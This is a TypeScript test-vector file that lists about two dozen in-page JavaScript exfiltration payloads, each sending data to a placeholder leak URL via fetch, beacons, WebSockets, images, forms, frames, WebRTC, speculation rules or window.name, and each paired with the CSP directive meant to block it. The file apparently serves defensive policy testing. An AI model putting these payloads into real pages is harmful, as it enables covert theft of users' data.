import type { Defence, Vector } from './vector.ts';

const REFERENCES = ['https://www.w3.org/TR/CSP3/#directive-connect-src', 'https://www.w3.org/TR/CSP3/#exfiltration'];

type Row = readonly [id: string, idea: string, code: string, defence?: Defence | undefined, more?: Partial<Vector>];

/** Something bad runs in the page already, such as a package that was taken over, and wants to tell somebody. */
const ROWS: readonly Row[] = [
  ['E18', 'fetch', "fetch('{leak}',{mode:'no-cors'})", 'connect-src'],
  ['E19', 'a beacon', "navigator.sendBeacon('{leak}')", 'connect-src'],
  ['E20', 'a WebSocket', "new WebSocket('{leak}'.replace('http','ws'))", 'connect-src'],
  ['E21', 'an event source', "new EventSource('{leak}')", 'connect-src'],
  ['E22', 'an image', "new Image().src='{leak}'", 'img-src'],
  ['E23', 'the page is left', "location='{leak}'"],
  [
    'E24',
    'a page is fetched beforehand',
    "document.head.append(Object.assign(document.createElement('link'),{rel:'prefetch',href:'{leak}'}))",
    'default-src',
  ],
  ['E25', 'a window is opened', "open('{leak}')"],
  ['E46', 'an old request', "{let x=new XMLHttpRequest();x.open('GET','{leak}');x.send()}", 'connect-src'],
  [
    'E47',
    'a request that outlives the page',
    "fetch('{leak}',{mode:'no-cors',keepalive:true,method:'POST',body:'x'})",
    'connect-src',
  ],
  [
    'E48',
    'a form that is sent',
    "{let f=document.createElement('form');f.action='{leak}';document.body.append(f);f.submit()}",
    'form-action',
  ],
  [
    'E49',
    'a form that is sent to a frame',
    "{let i=document.createElement('iframe'),f=document.createElement('form');i.name='i';f.target='i';f.action='{leak}';document.body.append(i,f);f.submit()}",
    'form-action',
    { blockedBy: ['form-action', 'frame-src'] },
  ],
  ['E50', 'a font', "new FontFace('f','url({leak})').load()", 'font-src'],
  ['E51', 'a sound', "new Audio('{leak}').load()", 'media-src'],
  [
    'E52',
    'a frame',
    "document.body.append(Object.assign(document.createElement('iframe'),{src:'{leak}'}))",
    'frame-src',
  ],
  [
    'E53',
    'a link that the script clicks',
    "{let a=document.createElement('a');a.href='{leak}';document.body.append(a);a.click()}",
  ],
  [
    'E54',
    'a stylesheet',
    "document.head.append(Object.assign(document.createElement('link'),{rel:'stylesheet',href:'{leak}'}))",
    'style-src',
  ],
  ['E55', 'an image of a style that the script sets', "document.body.style.backgroundImage='url({leak})'", 'img-src'],
  [
    'E56',
    'what is behind a name of a host, told to a server that helps connections through firewalls',
    "{let p=new RTCPeerConnection({iceServers:[{urls:'stun:{datagrams}'}]});p.createDataChannel('x');p.createOffer().then((o)=>p.setLocalDescription(o))}",
    undefined,
    { references: ['https://github.com/w3c/webappsec-csp/issues/92'] },
  ],
  [
    'E57',
    'a stylesheet that the script writes',
    "{let s=new CSSStyleSheet();s.replaceSync('main{background:url({leak})}');document.adoptedStyleSheets=[s]}",
    'img-src',
  ],
  [
    'E58',
    'a page is loaded beforehand, by rules',
    '{let s=document.createElement(\'script\');s.type=\'speculationrules\';s.textContent=\'{"prefetch":[{"source":"list","urls":["{leak}"]}]}\';document.body.append(s)}',
    'trusted-types',
    { blockedBy: ['trusted-types', 'no-strict-dynamic'] },
  ],
  [
    'E59',
    'window.name, which the next page of this window reads',
    "window.name='{token}';location='{foreign}name-reader.html'",
    'opener-policy',
    {
      foreignFiles: [
        { name: 'name-reader.html', type: 'text/html', text: "<script>fetch('got?'+window.name)</script>" },
      ],
    },
  ],
];

export const EXFILTRATION_SCRIPT: readonly Vector[] = ROWS.map(([id, idea, code, defence, more = {}]) => ({
  id,
  class: 'exfiltration',
  idea: `a script of the page tells somebody: ${idea}`,
  place: 'own-script',
  payload: code,
  proof: 'request',
  blockedBy: [defence ?? 'application'],
  references: REFERENCES,
  ...more,
}));
